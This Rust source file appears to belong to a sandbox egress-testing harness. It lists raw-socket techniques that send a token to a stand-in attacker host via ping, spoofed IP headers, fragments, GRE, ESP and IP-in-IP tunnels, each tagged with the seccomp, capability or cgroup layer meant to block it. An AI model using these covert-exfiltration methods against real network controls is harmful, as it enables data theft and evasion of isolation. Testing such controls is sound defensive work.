//! Sockets that make their own headers.

use std::net::IpAddr;

use super::call::{family, open, send_to};
use super::{Aim, Failure, INET, Layer, Technique, packet};
use crate::verify::ground::{ATTACKER, ATTACKER_V6, INSIDE, INSIDE_V6, PROVIDER, PROVIDER_V6};

pub(super) const ROWS: &[Technique] = &[
    Technique::wire("icmp", "ping socket, IPv4", "12", INET, |a| ping(a, ATTACKER)),
    Technique::wire("icmp6", "ping socket, IPv6", "12", INET, |a| ping(a, ATTACKER_V6)),
    Technique::wire("raw-ip", "raw socket, header of its own", "11", RAW, raw_ip),
    Technique::wire("raw-fragment", "raw socket, a fragment", "10 11", RAW, |a| {
        let mut datagram = packet::udp4(INSIDE, PROVIDER, 443, a.token.as_bytes());
        datagram[6] = 0x20; // more fragments; the kernel fills the checksum in
        raw(libc::AF_INET, libc::IPPROTO_RAW, &datagram, PROVIDER)
    }),
    Technique::wire("raw-ip6", "raw socket, IPv6 header of its own", "11", RAW, |a| {
        let datagram = packet::ip6(INSIDE_V6, ATTACKER_V6, 253, a.token.as_bytes());
        raw(libc::AF_INET6, libc::IPPROTO_RAW, &datagram, PROVIDER_V6)
    }),
    Technique::wire("raw-icmp", "raw socket, ICMP", "11", RAW, |a| {
        raw(libc::AF_INET, libc::IPPROTO_ICMP, &echo(8, a), ATTACKER)
    }),
    Technique::wire("raw-icmp6", "raw socket, ICMPv6", "11", RAW, |a| {
        raw(libc::AF_INET6, libc::IPPROTO_ICMPV6, &echo(128, a), ATTACKER_V6)
    }),
    Technique::wire("raw-igmp", "raw socket, IGMP", "11 15", RAW, |a| {
        raw(libc::AF_INET, libc::IPPROTO_IGMP, &echo(0x16, a), ATTACKER)
    }),
    Technique::wire("raw-gre", "raw socket, a GRE tunnel", "11 21", RAW, |a| {
        raw(libc::AF_INET, libc::IPPROTO_GRE, &echo(0, a), ATTACKER)
    }),
    Technique::wire("raw-esp", "raw socket, IPsec", "11 21", RAW, |a| {
        raw(libc::AF_INET, libc::IPPROTO_ESP, &echo(1, a), ATTACKER)
    }),
    Technique::wire("raw-ipip", "raw socket, IP within IP", "11 21", RAW, |a| {
        let inner = packet::udp4(INSIDE, ATTACKER, 443, a.token.as_bytes());
        raw(libc::AF_INET, libc::IPPROTO_IPIP, &inner, PROVIDER)
    }),
    Technique::wire("raw-tcp", "raw socket, a segment to the provider", "11", RAW, |a| {
        let mut segment = vec![0x30, 0x39, 1, 0xbb, 0, 0, 0, 1, 0, 0, 0, 0, 0x50, 2, 255, 255];
        segment.extend([0; 4]);
        segment.extend(a.token.as_bytes());
        raw(libc::AF_INET, libc::IPPROTO_TCP, &segment, PROVIDER)
    }),
];

fn ping(aim: &Aim, ip: IpAddr) -> Result<(), Failure> {
    let (protocol, kind) =
        if ip.is_ipv6() { (libc::IPPROTO_ICMPV6, 128) } else { (libc::IPPROTO_ICMP, 8) };
    let fd = open(family(ip), libc::SOCK_DGRAM, protocol)?;
    send_to(&fd, &echo(kind, aim), 0, ip, 0)
}

fn raw_ip(aim: &Aim) -> Result<(), Failure> {
    let fd = open(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW)?;
    // The header says "attacker" while the socket address says "provider".
    let datagram = packet::udp4(INSIDE, ATTACKER, 443, aim.token.as_bytes());
    send_to(&fd, &datagram, 0, PROVIDER, 0)
}

fn raw(family: i32, protocol: i32, bytes: &[u8], to: IpAddr) -> Result<(), Failure> {
    send_to(&open(family, libc::SOCK_RAW, protocol)?, bytes, 0, to, 0)
}

fn echo(kind: u8, aim: &Aim) -> Vec<u8> {
    let mut message = vec![kind, 0, 0, 0, 0, 1, 0, 1];
    message.extend(aim.token.as_bytes());
    message
}

const RAW: &[Layer] = &[Layer::Seccomp, Layer::Capability, Layer::Cgroup];
